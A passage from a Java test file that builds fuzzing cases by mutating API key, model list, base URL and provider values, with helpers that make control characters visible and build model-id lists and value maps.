      String mutated =
          original.substring(0, at) + (op == 1 ? "" : splice) + original.substring(end);
      String how =
          op == 0
              ? "insert " + visible(splice)
              : op == 1 ? "delete " + (end - at) : "replace with " + visible(splice);
      boolean relay = field.equals("base_url") || field.equals("provider");
      Map<String, Object> values = new LinkedHashMap<>();
      values.put("api_key", field.equals("api_key") ? mutated : relay ? SK_KEY : KEY);
      if (field.equals("models")) {
        values.put("models", mutated);
      }
      if (relay) {
        values.put("base_url", field.equals("base_url") ? mutated : "https://relay.example");
      }
      boolean asForm = i % 3 == 2;
      String modalId = null;
      if (asForm) {
        modalId = !relay ? QuotaModal.ID : QuotaModal.ID + ":" + valueOr(field, mutated, "newapi");
      } else if (relay) {
        values.put("provider", valueOr(field, mutated, "newapi"));
      }
      Surface surface = asForm ? Surface.FORM : Surface.COMMAND;
      String name = i + ": " + how + " at " + at;
      all.add(
          new Case(
              "mutated " + field,
              name,
              surface,
              values,
              modalId,
              null,
              ANY,
              i % 12 == 0 && !relay));
    }
  }

  private static String valueOr(String field, String mutated, String otherwise) {
    return field.equals("provider") ? mutated : otherwise;
  }

  private static String visible(String text) {
    return text.codePoints()
        .mapToObj(
            c ->
                c < 0x20
                        || (c >= 0x7f && c < 0xa0)
                        || Character.getType(c) == Character.FORMAT
                        || Character.isSurrogate((char) c)
                    ? String.format("U+%04X", c)
                    : new String(Character.toChars(c)))
        .collect(Collectors.joining());
  }

  // --- helpers ---

  /** {@code count} distinct model ids, comma-separated. */
  static String names(int count) {
    return IntStream.range(0, count)
        .mapToObj(i -> "org/model-" + i)
        .collect(Collectors.joining(","));
  }

  private static Map<String, Object> map(Object... pairs) {
    Map<String, Object> values = new LinkedHashMap<>();
    for (int i = 0; i < pairs.length; i += 2) {
      values.put((String) pairs[i], pairs[i + 1]);
    }
    return values;
  }
}
